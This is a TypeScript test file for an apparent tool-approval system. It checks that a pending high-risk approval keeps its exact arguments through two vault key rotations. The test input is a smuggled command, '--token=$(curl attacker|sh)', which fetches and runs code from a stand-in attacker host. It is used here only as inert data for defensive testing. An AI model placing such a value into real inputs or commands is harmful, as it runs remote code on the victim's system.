/** After a change of the vault's keys, data that is sealed outside the vault's own table is still readable. */
import { expect, test } from 'vitest';
import { createTestHelve, testTool } from '../../testing/index.js';

test('R-vault: a pending approval still shows its exact arguments after the keys were changed, twice', async () => {
  const helve = await createTestHelve({ tools: [testTool({ name: 'send', highRisk: true })] });
  const { plane, admin } = helve;
  const input = { command: '--token=$(curl attacker|sh)' };
  const asked = await helve.call('send', input);
  if (asked.ok) throw new Error('It ran without an approval');
  const id = String(asked.error.details?.approvalId);
  const shown = async () => plane.approval(admin, id);
  expect(await shown()).toMatchObject({ exact: true, arguments: input });
  const first = await plane.rotateVault(admin);
  expect(await shown()).toMatchObject({ exact: true, arguments: input });
  const second = await plane.rotateVault(admin);
  expect([first.resealed, second.resealed, second.unreadable]).toEqual([1, 1, 0]);
  expect(second.keyId).not.toBe(first.keyId);
  expect(await shown()).toMatchObject({ exact: true, arguments: input });
  // Once decided and used, it is for the same call as before.
  await plane.decideApproval(admin, id, 'approved', 'api');
  expect(await helve.call('send', input, { approvalId: id })).toMatchObject({ ok: true });
  await helve.close();
});
